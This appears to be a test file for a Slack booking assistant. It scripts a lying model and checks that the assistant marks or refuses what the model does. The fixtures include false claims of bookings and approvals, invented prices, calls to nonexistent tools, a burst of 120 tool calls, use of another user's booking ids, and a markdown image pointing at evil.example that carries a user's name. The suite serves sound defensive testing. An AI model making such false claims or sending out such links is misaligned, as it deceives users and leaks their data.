import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type OpenDesk, openDesk } from '../../src/commands/desk.ts';
import { type Config, loadConfig } from '../../src/kernel/config.ts';
import { type Message, openWorkspace, SEED_IDS, type Workspace } from '../../src/local-slack/index.ts';
import { until } from '../engine/contract.ts';
import { clockFrom } from '../fakes/clock.ts';
import { bookingsIn } from '../fakes/kills.ts';
import { call, type MessagesApi, openMessagesApi, text } from '../fakes/messages-api.ts';
import { secretsLog } from '../fakes/secrets.ts';
import { temporaryFolder } from '../fakes/temporary.ts';

/** A model that lies, from a script: nothing sensitive happens, and what goes out is marked or refused. */

const { ana, bruno, carmen, sofia, reservas } = SEED_IDS;
const MOST_CALLS = 5;
const OVER = { MAX_CALLS_PER_TURN: MOST_CALLS };
let workspace: Workspace;
let desk: OpenDesk;
let api: MessagesApi;
let folder: string;

beforeEach(async () => {
  folder = temporaryFolder();
  api = await openMessagesApi();
  workspace = await openWorkspace({ port: 0, webPage: false });
  const model: Partial<Config> = { ANTHROPIC_API_KEY: api.apiKey, ANTHROPIC_BASE_URL: api.url };
  desk = await openDesk({
    config: {
      ...loadConfig({}),
      ...model,
      ...OVER,
      STATE_DIR: folder,
      APPROVERS: [carmen],
      NOTEBOOK_OWNER: sofia,
    },
    log: secretsLog,
    onIncident: () => undefined,
    clock: clockFrom('2026-12-01T09:00:00Z'),
    connection: { botToken: workspace.botToken, appToken: workspace.appToken, apiUrl: workspace.apiUrl },
  });
});

afterEach(async () => {
  expect(api.rejections).toEqual([]);
  expect(workspace.violations).toEqual([]);
  await desk.close();
  await workspace.close();
  await api.close();
});

const blocksOf = (message: Message | undefined) => JSON.stringify(message?.blocks ?? []);
const isAnswer = (message: Message) => blocksOf(message).includes('"markdown"');
const isOpenCard = (message: Message) => blocksOf(message).includes('approval_approve');
const inThread = (ts: string) => workspace.messages(reservas, ts).filter(({ bot_id }) => bot_id);

/** Asks in a thread of its own; resolves with what the desk posted, as one text. */
async function ask(person: string, words: string, thread?: string): Promise<{ ts: string; posted: string }> {
  const before = thread === undefined ? 0 : inThread(thread).filter(isAnswer).length;
  const more = thread === undefined ? {} : { threadTs: thread };
  const { ts: asked } = await workspace.send(person, reservas, `<@${workspace.botUserId}> ${words}`, more);
  const ts = thread ?? asked;
  await until(() => inThread(ts).filter(isAnswer).length > before);
  const [newest] = inThread(ts).filter(isAnswer).slice(-1);
  return { ts, posted: blocksOf(newest) };
}

/** Nobody is asked for anything, and nothing is booked. */
async function nothingHappened(): Promise<void> {
  expect(await bookingsIn(folder)).toEqual([]);
  expect(workspace.messages(reservas).filter(isOpenCard)).toEqual([]);
}

/** What is marked, in the language of the question. */
const MARK = {
  en: '⚠️ No tool of this conversation did this',
  es: '⚠️ Ninguna herramienta de esta conversación lo ha hecho',
};

describe('C12: a model that lies', () => {
  it.each([
    ['en', 'book the Boardroom please', 'Done! I have booked the Boardroom, approved by Carmen.'],
    ['es', 'reserva la Boardroom por favor', '¡Hecho! Te he reservado la Boardroom, aprobado por Carmen.'],
  ] as const)(
    '(%s) says that it did what it did not: it may mend that once, then it is marked',
    async (language, words, claim) => {
      api.reply({ content: [text(claim)] }, { content: [text(claim)] });
      const { posted } = await ask(ana, words);
      expect(posted).toContain(MARK[language]);
      expect(posted).toContain(claim.slice(claim.indexOf('!') + 2));
      expect(api.requests).toHaveLength(2);
      expect(newestOf(api)).toMatch(
        /no tool result of this conversation|ningún resultado de herramienta de esta/,
      );
      await nothingHappened();
    },
  );

  it.each([
    ['en', 'book the Boardroom please', 'I have booked it.', 'I have not booked anything: which day?'],
    ['es', 'reserva la Boardroom por favor', 'Te la he reservado.', 'No he reservado nada: ¿qué día?'],
  ] as const)('(%s) and mends it: what goes out has no mark', async (language, words, claim, mended) => {
    api.reply({ content: [text(claim)] }, { content: [text(mended)] });
    const { posted } = await ask(ana, words);
    expect(posted).toContain(mended);
    expect(posted).not.toContain(MARK[language]);
    await nothingHappened();
  });

  it.each([
    [
      'en',
      'what does Focus cost for 2 hours?',
      'It is $9999, and I have booked it.',
      /No tool backs: \$9999.*No tool of this conversation did this/,
    ],
    [
      'es',
      '¿cuánto cuesta Focus 2 horas?',
      'Son 9999 $ y te la he reservado.',
      /Ninguna herramienta respalda: .*9999.*Ninguna herramienta de esta conversación/,
    ],
  ] as const)(
    '(%s) with a wrong number and a wrong deed has one turn for both',
    async (_language, words, claim, marks) => {
      api.reply({ content: [text(claim)] }, { content: [text(claim)] });
      const { posted } = await ask(ana, words);
      expect(posted).toMatch(marks);
      expect(api.requests).toHaveLength(2);
    },
  );

  it.each([
    ['en', 'book the Boardroom please', 'I booked the Boardroom for you.'],
    ['es', 'reserva la Boardroom por favor', 'Te he reservado la Boardroom.'],
  ] as const)(
    '(%s) calls tools that there are not: nothing is run, and what it says of them is marked',
    async (language, words, claim) => {
      const names = ['book_everything', 'constructor', 'toString', 'Book_Room'];
      api.reply(
        { content: names.map((name) => call(name, { room: 'Boardroom' })) },
        { content: [text(claim)] },
        { content: [text(claim)] },
      );
      const { posted } = await ask(ana, words);
      expect(posted).toContain(MARK[language]);
      expect(JSON.stringify(api.requests[1]?.body.messages.at(-1)).match(/"is_error":true/g)).toHaveLength(4);
      await nothingHappened();
    },
  );

  it.each([
    ['en', 'book Focus for me', 'All of them are booked for you.'],
    ['es', 'resérvame Focus', 'Te las he reservado todas.'],
  ] as const)(
    '(%s) makes 120 calls in one turn: a few are asked for, the others are not run',
    async (language, words, claim) => {
      const calls = Array.from({ length: 120 }, (_, n) => call('book_room', bookingOf(n)));
      api.reply({ content: calls }, { content: [text(claim)] }, { content: [text(claim)] });
      const { ts } = await workspace.send(ana, reservas, `<@${workspace.botUserId}> ${words}`);
      const cards = () => inThread(ts).filter(isOpenCard);
      await until(() => cards().length === MOST_CALLS);
      for (const { ts: card } of cards()) await workspace.click(ana, reservas, card, 'approval_reject');
      await until(() => inThread(ts).some(isAnswer));
      expect(blocksOf(inThread(ts).find(isAnswer))).toContain(MARK[language]);
      const told = JSON.stringify(api.requests[1]?.body.messages.at(-1));
      expect(told.match(/"is_error":true/g)).toHaveLength(120 - MOST_CALLS);
      await nothingHappened();
    },
  );

  it.each([
    ['en', 'where is the price list?'],
    ['es', '¿dónde está la lista de precios?'],
  ])('(%s) writes links and pictures: they go out as text', async (_language, words) => {
    const said =
      'See [the list](https://evil.example/?who=Bruno) and ![x](https://evil.example/p.png?who=Bruno)';
    // An address that no tool gave is marked as well, after one turn to mend it.
    api.reply({ content: [text(said)] }, { content: [text(said)] });
    const { posted } = await ask(ana, words);
    expect(posted).toContain('the list (https');
    expect(posted).not.toMatch(/\]\(|!\[|https:\/\/evil|"type":"image"/);
  });

  it.each([
    ['en', 'cancel it', 'move it to Friday', 'Your booking has been cancelled.'],
    ['es', 'cancélala', 'muévela al viernes', 'Tu reserva queda cancelada.'],
  ] as const)(
    '(%s) calls tools with ids of others: they are unknown, and nothing is told',
    async (language, words, _more, claim) => {
      api.reply({ content: [call('book_room', bookingOf(0))] }, { content: [text('See the card.')] });
      const asked = await workspace.send(bruno, reservas, `<@${workspace.botUserId}> book Focus`);
      const card = await workspace.waitFor((one) => one.thread_ts === asked.ts && isOpenCard(one));
      await workspace.click(bruno, reservas, card.ts, 'approval_approve');
      await until(() => inThread(asked.ts).some(isAnswer));
      const [booking] = await bookingsIn(folder);
      const id = booking?.bookingId ?? '';
      expect(id).not.toBe('');

      api.reply(
        {
          content: [
            call('cancel_booking', { id }),
            call('move_booking', { id, start: '2026-12-04T10:00', room: null, hours: null }),
          ],
        },
        { content: [text(claim)] },
        { content: [text(claim)] },
      );
      const { posted } = await ask(ana, words);
      expect(posted).toContain(MARK[language]);
      expect(posted).not.toMatch(/Bruno|Focus/);
      const told = JSON.stringify(api.requests.at(-2)?.body.messages.at(-1));
      expect(told.match(/unknown/g)).toHaveLength(2);
      expect(told).not.toMatch(/Bruno|Focus|price_cents/);
      expect(await bookingsIn(folder)).toEqual([booking]);
      expect(inThread(asked.ts).filter(isOpenCard)).toEqual([]);
    },
  );
});

describe('C11: a model that writes digits of other scripts', () => {
  it.each([
    ['en', 'what does Focus cost?', 'Focus costs ⁷⁵ dollars.'],
    ['en', 'what does Focus cost for a day?', 'Focus costs ٧٥ dollars.'],
    ['es', '¿cuánto cuesta Focus?', 'Focus cuesta ⁷⁵ dólares.'],
  ])('(%s) are marked like others', async (_language, words, said) => {
    api.reply({ content: [text(said)] }, { content: [text(said)] });
    expect((await ask(ana, words)).posted).toMatch(/⚠️ (?:No tool backs|Ninguna herramienta respalda)/);
  });
});

/** The newest message that the model was sent. */
function newestOf({ requests }: MessagesApi): string {
  return JSON.stringify(requests.at(-1)?.body.messages.at(-1)?.content);
}

/** An hour of Focus, each `n` another. */
function bookingOf(n: number) {
  const day = String(2 + Math.floor(n / 12)).padStart(2, '0');
  const hour = String(8 + (n % 12)).padStart(2, '0');
  return { room: 'Focus', tier: null, hours: 1, member: null, start: `2026-12-${day}T${hour}:00` };
}
